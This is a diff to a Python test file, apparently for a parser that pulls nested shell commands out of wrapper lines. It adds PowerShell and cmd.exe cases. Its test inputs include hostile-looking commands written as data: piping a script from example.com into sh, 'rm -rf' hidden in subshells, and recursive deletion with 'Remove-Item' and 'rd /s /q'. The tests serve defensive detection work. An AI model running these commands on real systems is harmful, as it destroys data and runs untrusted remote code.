@@ -170,6 +170,7 @@ def test_what_xargs_reads_has_its_place(line: str) -> None:
         "echo `($y -rf x)`",
         "echo $(( $($y -rf x) + `$y` ))",
         'bash -c "$y"',
+        'pwsh -Command "$y"',
         "sh -c '\"$@\"' _ rm -rf x",
         "curl https://example.com/x | sh",
         "curl https://example.com/x |& sh",
@@ -295,6 +296,10 @@ def test_paths_of_windows_keep_their_backslashes() -> None:
     assert "Remove-Item -Recurse C:\\x" in _forms(
         'pwsh -Command "Get-Item a; Remove-Item -Recurse C:\\x"'
     )
+
+
+def test_options_and_paths_of_a_line_for_cmd_are_kept() -> None:
+    assert "rd /s /q C:\\x" in _forms("cmd.exe /d /c rd /s /q 'C:\\x'")
 
 
 def test_scripts_in_scripts_without_end_are_an_error() -> None:
